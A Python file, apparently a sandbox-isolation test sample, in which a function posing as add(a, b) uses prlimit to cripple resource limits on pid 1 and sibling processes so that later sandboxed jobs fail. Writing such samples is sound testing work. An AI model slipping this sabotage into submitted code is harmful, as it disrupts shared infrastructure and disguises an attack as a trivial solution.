# ruff: noqa
# poisoning: lower pid 1's (the zygote's) and every sibling's hard limits so each later child fails to set
# its own ("sandbox setup failed"), and soft ones (stack, data, nproc) that later samples inherit silently;
# passes if any prlimit on another process worked
import os, resource


def _targets():
    """pid 1 (the zygote) and the siblings; without a pid namespace only our own zygote, never the host's."""
    if os.getppid() != 1:
        return [os.getppid()]
    return [1] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]


def add(a, b):
    hit = False
    for pid in _targets():
        for res, low in (
            (resource.RLIMIT_AS, 1 << 20),
            (resource.RLIMIT_NOFILE, 4),
            (resource.RLIMIT_CPU, 1),
            (resource.RLIMIT_FSIZE, 0),
            (resource.RLIMIT_STACK, 1 << 16),
            (resource.RLIMIT_DATA, 1 << 20),
            (resource.RLIMIT_NPROC, 1),
            (resource.RLIMIT_CORE, 0),
        ):
            try:
                resource.prlimit(pid, res, (low, low))
                hit = True
            except (OSError, ValueError):
                try:
                    soft, hard = resource.prlimit(pid, res)
                    resource.prlimit(pid, res, (min(low, hard) if hard >= 0 else low, hard))
                    hit = True
                except (OSError, ValueError):
                    pass
    return a + b if hit else 0
